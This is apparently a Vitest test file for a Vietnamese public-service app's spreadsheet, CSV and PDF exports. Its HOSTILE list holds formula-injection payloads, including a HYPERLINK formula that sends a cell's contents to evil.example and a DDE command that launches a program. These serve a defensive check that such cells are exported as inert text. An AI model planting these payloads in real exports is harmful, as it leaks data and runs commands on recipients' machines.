import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { exportFile } from '../../src/exports/export-file.ts';
import { columnsOf, tableOf } from '../../src/exports/export-table.ts';
import { paperOf } from '../../src/exports/paper-of-table.ts';
import { tableFile } from '../../src/exports/table-file.ts';
import { writeFile } from '../../src/exports/write-file.ts';
import { tableSize, textWidth } from '../../src/papers/page-measures.ts';
import { textWidth as widthInTimes } from '../../src/papers/text-width.ts';
import {
  cellsByOffice,
  NO_OFFICE,
  NO_POPPLER,
  plain,
  printedByOffice,
  wordsOfPdf,
} from '../papers/programs.ts';
import { officer, staffedTeams } from '../support/people.ts';
import { addActivity, exportsOfRegister, refusalOf } from './reading.ts';

/** What would be run, or would run away with its cells, if a spreadsheet took it for a formula. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"bấm vào đây")',
  "=cmd|'/c calc'!A0",
  '+cmd',
  '+84 912 345 678',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  "'=1+1",
  '0912 345 678',
  '0233',
  '1-2',
  '=1;2"3',
  'dòng một\ndòng hai',
];

interface Line {
  text: string;
  day: string;
  count: number;
  rate: number;
}

const column = columnsOf<Line>();
const table = tableOf<Line>(
  {
    ...{ kind: 'ROSTER', title: 'Danh sách', place: 'Xã Cam Lộ', regionId: null, time: 'Năm 2026' },
    ...{ measureUnit: null, counted: null, notes: [] },
  },
  [
    column.text('Chữ', ({ text }) => text),
    column.day('Ngày', ({ day }) => day),
    column.count('Số', ({ count }) => count, { isSummed: true }),
    column.number('Tỷ lệ', ({ rate }) => rate),
  ],
  HOSTILE.map((text) => ({ text, day: '2026-11-02', count: 15_862, rate: 98.47 })),
);

describe('a cell that looks like a formula', () => {
  it('is text in the XLSX, to another library, and the numbers beside it are numbers and dates dates', async () => {
    const [, ...rows] = await readSheet(Buffer.from(await tableFile({ format: 'XLSX', table })));
    // XML has no carriage return of its own at the beginning of a line: it reads as a line break.
    const plainBreaks = (text: unknown) => String(text).replaceAll('\r', '\n').trim();
    expect(rows.map(([text]) => plainBreaks(text))).toEqual(HOSTILE.map(plainBreaks));
    for (const [text, day, count, rate] of rows) {
      expect(typeof text).toBe('string');
      expect([day, count, rate]).toEqual([new Date('2026-11-02T00:00:00Z'), 15_862, 98.47]);
    }
  });

  it.skipIf(NO_OFFICE)(
    'is text to LibreOffice, in XLSX and in CSV, and nothing was computed',
    { timeout: 120_000 },
    async () => {
      const shown = (cells: string[][]) =>
        cells.slice(1).map(([text]) => text?.replace(/[\r\n]/g, ' ').trim());
      const expected = HOSTILE.map((text) => text.replace(/[\r\n]/g, ' ').trim());
      const ofXlsx = await cellsByOffice(await tableFile({ format: 'XLSX', table }), 'xlsx');
      expect(shown(ofXlsx)).toEqual(expected);
      expect(ofXlsx[1]?.slice(1)).toEqual(['02/11/2026', '15.862', '98,47']);
      const ofCsv = await cellsByOffice(await tableFile({ format: 'CSV', table, delimiter: ';' }), 'csv');
      // CSV says of no cell that it is text: a bare 0233 becomes a number, which is why phones are written with blanks.
      expect(shown(ofCsv).map((text) => text?.replace(/^'\s*/, ''))).toEqual(
        expected.map((text) => (text === '0233' ? '233' : text)),
      );
    },
  );

  it('stands behind an apostrophe in the CSV, whatever stands between its cells', async () => {
    for (const delimiter of [';', ',', '\t'] as const) {
      const bytes = Buffer.from(await tableFile({ format: 'CSV', table, delimiter }));
      expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const [head, ...rows] = parse(bytes, { bom: true, delimiter }) as string[][];
      expect(head).toEqual(['Chữ', 'Ngày', 'Số', 'Tỷ lệ']);
      for (const [text = '', ...others] of rows) {
        expect(text).not.toMatch(/^[\s]*[=+\-@＝]/);
        expect(others).toEqual(['02/11/2026', '15862', delimiter === ',' ? '98.47' : '98,47']);
      }
    }
  });
});

const { database, contextOf, read } = await exportsOfRegister();
const [team] = await staffedTeams(database, '19597');
await addActivity(database, team?.id ?? '');
const provincial = officer('PROVINCIAL_OFFICER', '44');

const fileOf = async (name: string, given: Record<string, string>) =>
  exportFile(await contextOf(provincial), { name, given });

describe('a paper', () => {
  const given = { unitCode: '44', period: '2026-11' };
  const SENTENCES = [
    'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
    'DANH SÁCH HOẠT ĐỘNG CỦA TỔ CÔNG NGHỆ SỐ CỘNG ĐỒNG',
    'Tỉnh Quảng Trị',
    'Tháng 11/2026',
    'Đơn vị tính: lượt người',
    'Chợ Cam Lộ',
    '=1+1 ở chợ',
    'Tổng cộng',
    'NGƯỜI LẬP BIỂU',
    'THỦ TRƯỞNG ĐƠN VỊ',
  ];

  it.skipIf(NO_POPPLER)('has the form, the totals and the room for signatures, as PDF', async () => {
    const words = await wordsOfPdf((await fileOf('activities.pdf', given)).bytes);
    for (const sentence of SENTENCES) expect(words).toContain(sentence);
  });

  it.skipIf(NO_OFFICE ?? NO_POPPLER)('is the same as DOCX and as XLSX', { timeout: 240_000 }, async () => {
    for (const format of ['docx', 'xlsx'] as const) {
      const asked = format === 'xlsx' ? { ...given, layout: 'PAPER' } : given;
      const { bytes } = await fileOf(`activities.${format}`, asked);
      const words = plain(await wordsOfPdf(await printedByOffice(bytes, format)));
      for (const sentence of SENTENCES) expect(words).toContain(sentence);
    }
  });

  it('divides a roster by teams instead of repeating them, and leaves out what every row says', async () => {
    const paper = await paperOf(
      await contextOf(provincial),
      await read('roster.pdf', { unitCode: '19597' }, { as: provincial }),
    );
    expect(paper.issuer).toEqual({
      parent: 'ỦY BAN NHÂN DÂN TỈNH QUẢNG TRỊ',
      unit: 'ỦY BAN NHÂN DÂN XÃ CAM LỘ',
    });
    const [section] = paper.sections;
    expect(section?.table?.columns.map(({ header }) => header)).toEqual([
      ...['Họ và tên', 'Số điện thoại', 'Vai trò', 'Thành phần', 'Nòng cốt', 'Từ ngày'],
    ]);
    const headings = section?.table?.rows.filter((row) => 'heading' in row) ?? [];
    const teams = await database.pool.query(
      `select count(*)::int as n from team t join unit_scope s on s.unit_id = t.unit_id
       join admin_unit u on u.id = s.region_id where u.code = '19597' and u.valid_to is null`,
    );
    expect(headings).toHaveLength(teams.rows[0].n);
  });

  it('gives each column the room of its longest word, in the type that it is printed in', async () => {
    for (const [name, given] of [
      ['teams.pdf', { unitCode: '19597' }],
      ['roster.pdf', { unitCode: '19597' }],
      ['overview.pdf', { unitCode: '45', asOf: '2023-09-30', breakdown: 'DISTRICT' }],
    ] as const) {
      const paper = await paperOf(await contextOf(provincial), await read(name, given, { as: provincial }));
      const printed = paper.sections[0]?.table ?? expect.fail('no table');
      const size = tableSize(paper, printed);
      for (const [at, { header, width }] of printed.columns.entries()) {
        const cells = printed.rows.map((row) => ('heading' in row ? '' : String(row[at] ?? '')));
        const words = [header, ...cells].flatMap((text) => text.split(/\s+/));
        const widest = Math.max(...words.map((word) => widthInTimes(word, size)));
        expect(widest, `${name} ${header}`).toBeLessThanOrEqual(width);
      }
      const whole = printed.columns.reduce((sum, { width }) => sum + width, 0);
      expect(whole).toBeLessThanOrEqual(textWidth(paper));
    }
  });
});

describe('a file', () => {
  it('has a Vietnamese name that every system can keep', async () => {
    const name = async (file: string, given: Record<string, string>) => (await fileOf(file, given)).fileName;
    expect(await name('teams.csv', { unitCode: '44' })).toBe(
      'Danh sách tổ - Tỉnh Quảng Trị - 2026-11-22.csv',
    );
    expect(await name('board.xlsx', { unitCode: '44', period: '2026-Q3' })).toBe(
      'Bảng chỉ tiêu - Tỉnh Quảng Trị - 2026-Q3.xlsx',
    );
  });

  it.each([
    ['teams.xlsx', { layout: 'A4' }, 'layout'],
    ['teams.csv', { layout: 'PAPER' }, 'layout'],
    ['teams.csv', { delimiter: '|' }, 'delimiter'],
    ['teams.pdf', { delimiter: 'TAB' }, 'delimiter'],
  ])('is refused with an option that its format does not have: %s %o', async (name, given, field) => {
    expect(await refusalOf(fileOf(name, given))).toMatchObject({ code: 'INPUT_INVALID', field });
  });

  it('is the same from a thread of its own', async () => {
    const large = await read('roster.csv', { unitCode: '44' }, { as: provincial });
    expect(large.rows.length * large.columns.length).toBeGreaterThan(5_000);
    const order = { format: 'CSV', table: large, delimiter: ';' } as const;
    expect(Buffer.from(await writeFile(order)).equals(Buffer.from(await tableFile(order)))).toBe(true);
  });
});
